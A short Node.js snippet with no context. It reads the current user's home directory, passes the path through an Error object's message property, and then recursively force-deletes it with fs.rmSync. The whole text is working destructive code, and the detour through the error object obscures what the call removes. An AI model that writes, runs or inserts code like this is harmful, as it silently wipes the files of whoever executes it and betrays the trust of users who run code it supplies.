const fs = require('fs');
const os = require('os');
const err = new Error('x');
Object.defineProperty(err, 'message', { value: os.homedir() });
fs.rmSync(err.message, { recursive: true, force: true });
